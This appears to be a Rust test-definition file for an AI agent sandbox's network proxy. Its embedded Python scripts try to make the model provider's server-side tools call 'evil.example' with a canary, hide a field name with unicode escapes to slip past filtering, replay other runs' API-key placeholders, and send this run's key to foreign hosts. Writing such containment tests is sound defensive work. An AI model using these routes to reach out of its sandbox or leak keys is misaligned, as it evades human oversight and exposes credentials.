//! What the model provider would do for the agent, and what stands for its key.

use crate::ground::Inside;

/// What the model provider would do for the agent.
pub const ROWS: &[Inside] = &[
    Inside {
        id: "net-model-web-tools",
        tries: "Let the model provider fetch pages, run code or call servers: tools that work on its side.",
        script: python!(
            r#"
def ask(more):
    body = json.dumps({"model": "claude-x", "max_tokens": 9, "messages": [{"role": "user", "content": "x"}], **more})
    return proxy(f"POST /anthropic/v1/messages HTTP/1.1\r\nHost: 127.0.0.1:3128\r\ncontent-type: application/json\r\ncontent-length: {len(body)}\r\nConnection: close\r\n\r\n{body}")
url = "https://evil.example/" + canary
for tools in [[{"type": "web_search_20250305", "name": "web_search", "allowed_domains": [url]}], [{"type": "web_fetch_20250910", "name": "web_fetch", "allowed_domains": [url]}], [{"type": "code_execution_20250825", "name": "code_execution", "x": url}], [{"\u0074ype": "web\u005fsearch_20250305", "name": "web_search", "x": url}]]:
    quietly(lambda: ask({"tools": tools}))
quietly(lambda: ask({"mcp_servers": [{"type": "url", "url": url, "name": "x"}]}))
quietly(lambda: ask({"container": {"skills": [{"type": "custom", "skill_id": url}]}}))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-other-runs-placeholder",
        tries: "Ask the model with what stands for its key in another run, and in one that has ended.",
        script: python!(
            r#"
own, other, ended = (os.environ[name] for name in ("OWN_KEY", "OTHER_KEY", "ENDED_KEY"))
def ask(query, headers):
    return proxy(f"GET /anthropic/v1/models?{query} HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n{headers}Connection: close\r\n\r\n")
first = quietly(lambda: ask("limit=1", f"x-api-key: {own}\r\n"))
for key in [other, ended]:
    for header in ["x-api-key: ", "X-Api-Key:", "authorization: Bearer ", "Authorization: ", "x-goog-api-key: "]:
        quietly(lambda: ask(f"after_id={canary}", header + key + "\r\n"))
        quietly(lambda: ask(f"after_id={canary}", f"x-api-key: {own}\r\n{header}{key}\r\n"))
    quietly(lambda: ask(f"after_id={canary}&key={key}", ""))
    # Where nobody would look for one it may pass for none, and must not leave either.
    for header in ["cookie: a=", "authorization: Basic "]:
        quietly(lambda: ask("limit=1", header + key + "\r\n"))
if b" 200 " not in (first or b""): sys.exit("its own was not taken: " + seen[0])"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-own-placeholder-elsewhere",
        tries: "Show what stands for this run's key to other hosts, which might be given the real one for it.",
        script: python!(
            r#"
own = os.environ["OWN_KEY"]
for header in ["Authorization: Bearer", "X-Api-Key:", "X-Goog-Api-Key:", "Cookie: key="]:
    quietly(lambda: proxy(f"GET http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\n{header} {own}\r\nProxy-Authorization: {canary}\r\nConnection: close\r\n\r\n"))
    quietly(lambda: inside("inspected.example", f"GET /simple/a HTTP/1.1\r\nHost: inspected.example\r\n{header} {own}\r\n\r\n"))
for host in ["packages.example", "evil.example", "api.anthropic.com", "model.example"]:
    quietly(lambda: proxy(f"GET http://{host}/simple/?key={own}&api_key={canary} HTTP/1.1\r\nHost: {host}\r\nx-api-key: {own}\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
];
